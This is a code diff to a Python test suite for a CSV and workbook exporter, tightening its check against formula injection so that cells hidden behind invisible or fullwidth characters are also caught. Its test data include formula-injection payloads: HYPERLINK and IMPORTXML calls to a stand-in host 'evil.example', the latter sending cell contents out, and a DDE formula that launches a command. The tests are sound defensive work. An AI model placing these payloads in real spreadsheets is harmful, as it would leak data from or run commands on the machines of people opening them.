@@ -6,6 +6,7 @@ import os
 import resource
 import stat
 import tempfile
+import unicodedata
 from datetime import UTC, datetime, timedelta, timezone
 
 import pytest
@@ -19,10 +20,18 @@ from tests.fuzzing import fuzzed
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example","click")', "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1",
+    " =1+1", "\u00a0=1", " \t -1", "\u200b@SUM(A1)", "\ufeff=1", "\x1f=1", "\u2003＝1", "\u00ad+1",
     "＝1+1", "＋1", "－1", "＠SUM(A1)", "=cmd|' /C calc'!A0", '=IMPORTXML("http://evil.example/"&A1)', "-491234", "=",
 ]  # fmt: skip
-PLAIN = ["Ana", "", " =1", "1=1", "10152368852405295", "0012", "7" * 32, "a,b;c", 'say "hi"', "two\nlines", "Zoë 🙂"]
-DANGEROUS = tuple("=+-@\t\r\n\x00＝＋－＠")
+PLAIN = ["Ana", "", " Ana", "1=1", "10152368852405295", "0012", "7" * 32, "a,b;c", 'say "hi"', "two\nlines", "Zoë 🙂"]
+SIGNS, DANGEROUS = tuple("=+-@＝＋－＠"), tuple("\t\r\n\x00")
+
+
+def is_computed(cell: object) -> bool:
+    """Whether some spreadsheet computes a cell: it may drop what can't be seen before a formula."""
+    text = str(cell or "")
+    unseen = "".join({one for one in text if unicodedata.category(one)[0] in "ZC"})
+    return text.startswith(DANGEROUS) or text.lstrip(unseen).startswith(SIGNS)
 
 
 def read_csv(content: bytes) -> list[list[str]]:
@@ -44,7 +53,7 @@ def test_no_cell_of_a_csv_begins_like_a_formula(text):
     (row,) = read_csv(b"".join(as_csv([[text, "x", text]])))
 
     assert len(row) == 3
-    assert not any(cell.startswith(DANGEROUS) for cell in row)
+    assert not any(map(is_computed, row))
 
 
 @pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
@@ -53,7 +62,7 @@ def test_every_cell_of_a_workbook_is_text(text):
 
     assert cell.data_type in ("s", "inlineStr", "n") if text == "" else cell.data_type in ("s", "inlineStr")
     assert cell.number_format == "@"
-    assert not str(cell.value or "").startswith(DANGEROUS)
+    assert not is_computed(cell.value)
 
 
 @fuzzed(200)
@@ -61,6 +70,7 @@ def test_every_cell_of_a_workbook_is_text(text):
 def test_any_text_makes_a_readable_csv_without_formulas(rows):
     read = read_csv(b"".join(as_csv(rows)))
 
+    assert not any(is_computed(cell) for row in read for cell in row)
     assert read == [[safe(storable(cell)) for cell in row] for row in rows]
 
 
@@ -69,7 +79,7 @@ def test_any_text_makes_a_readable_csv_without_formulas(rows):
 def test_any_text_makes_a_readable_workbook(row):
     cells = next(sheet_of([row]).iter_rows(values_only=True))
 
-    assert not any(str(cell or "").startswith(DANGEROUS) for cell in cells)
+    assert not any(map(is_computed, cells))
 
 
 @fuzzed(200)
